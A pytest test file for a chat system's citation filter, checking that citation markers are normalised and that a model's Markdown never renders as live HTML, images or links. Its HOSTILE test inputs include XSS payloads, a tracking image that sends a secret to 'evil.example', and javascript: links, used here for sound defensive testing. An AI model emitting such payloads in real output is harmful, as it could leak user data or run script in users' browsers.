"""Citation markers and the rest of a model's Markdown, whole and in pieces of any size."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from rag.chat.citing import AnswerFilter, Marker, find_markers


def shown(text: str, step: int = 1, known: frozenset[int] = frozenset({1, 2, 3})) -> str:
    answer = AnswerFilter(known)
    return "".join([*(answer.feed(text[at : at + step]) for at in range(0, len(text), step)), answer.finish()])


@pytest.mark.parametrize("step", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("27 months [1].", "27 months [1]."),
        ("27 months [1, 2].", "27 months [1][2]."),
        ("27 months [1;3].", "27 months [1][3]."),
        ("27 months [1-3].", "27 months [1][2][3]."),
        ("27 months [1][2].", "27 months [1][2]."),
        ("27ヶ月【2】。", "27ヶ月[2]。"),
        ("27 months 【2†source】.", "27 months [2]."),
        ("27 months [^3].", "27 months [3]."),
        ("27 months [Passage 2].", "27 months [2]."),
        ("27 months [99].", "27 months."),
        ("27 months [0] or [99, 1].", "27 months or [1]."),
        ("Dropped [99] inside.", "Dropped inside."),
        ("An [aside] stays.", "An \\[aside] stays."),
        ("`list[0]` and [1]", "`list[0]` and [1]"),
        ("a < b and 3 <4", "a < b and 3 <4"),
        ("ends with \\", "ends with \\\\"),
        ("nul\x00 and \ud83d half", "nul and  half"),
        ("why has hw www", "why has hw www"),
    ],
)
def test_markers_come_out_in_one_form_or_not_at_all(said: str, expected: str, step: int) -> None:
    assert shown(said, step) == expected


@pytest.mark.parametrize("step", [1, 5, 1000])
def test_code_blocks_stay_as_they_are_and_are_closed(step: int) -> None:
    assert shown("See:\n```python\nx[99] = '<b>'  # http://a.b\n", step) == (
        "See:\n```python\nx[99] = '<b>'  # http://a.b\n```"
    )
    assert shown("  ~~~\nx[99]\n~~~\nSo [99] [1]", step) == "~~~\nx[99]\n~~~\nSo [1]"


HOSTILE = [
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- c --> </div>",
    "![tracker](https://evil.example/p.png?q=secret)",
    "[click](https://evil.example) and [ref][1]\n\n[1]: https://evil.example",
    "[1](https://evil.example) and [1]: https://evil.example\n\n[2]:https://evil.example",
    "<https://evil.example> https://evil.example/a_(b) www.evil.example HTTP://EVIL.example",
    "\\[click](https://evil.example) \\\\[click](https://evil.example) \\\\\\[click](x)",
    "http:\\//evil.example http&colon;//evil.example http&#58;//evil.example",
    "http:/[99]/evil.example www[99].evil.example htt[99]p://evil.example",
    "`unclosed [click](https://evil.example)\n\nnext ` line [click](https://evil.example)",
    "- ```\nlive [click](https://evil.example) <b>x</b>\n",
    "1. a\n   ```\nlive [click](https://evil.example) <b>x</b>\n",
    "> ~~~\nlive [click](https://evil.example) <b>x</b>\n",
    "```` a`b\n[click](https://evil.example)\n````\n<b>x</b>",
    "[a\n](https://evil.example) [" + "a" * 200 + "](https://evil.example)",
    "[[1]](https://evil.example) ![[1]](https://evil.example)",
    "``` ` ```[click](https://evil.example)``` ` ```",
    r"\\[1](javascript:alert(1)) \\\\[1](mailto:a@evil.example) \[1](data:x) \\[1]: /elsewhere",
]


@pytest.mark.parametrize("step", [1, 4, 1000])
@pytest.mark.parametrize("said", HOSTILE)
def test_nothing_becomes_html_an_image_or_a_link(said: str, step: int) -> None:
    rendered = MarkdownIt("commonmark", {"html": True}).render(shown(said, step))
    for tag in ("<script", "<img", "<a ", "<div", "</div", "<b>", "<!--"):
        assert tag not in rendered


@pytest.mark.parametrize("step", [1, 4, 1000])
@pytest.mark.parametrize("said", [said for said in HOSTILE if "```" not in said and "`" not in said])
def test_bare_addresses_stand_in_code(said: str, step: int) -> None:
    outside = "".join(shown(said, step).split("`")[::2]).lower()
    assert "http://" not in outside
    assert "https://" not in outside
    assert "www." not in outside


def test_markers_are_found_with_their_claims() -> None:
    content = (
        "The warranty is 27 months [1][2]. It starts on delivery. [3]\n- In `[1]` code\n```\n[2]\n```\nEnd \\[1] [1]"
    )
    assert find_markers(content) == [
        Marker(1, "The warranty is 27 months"),
        Marker(2, "The warranty is 27 months"),
        Marker(3, "It starts on delivery"),
        Marker(1, "End \\[1]"),
    ]
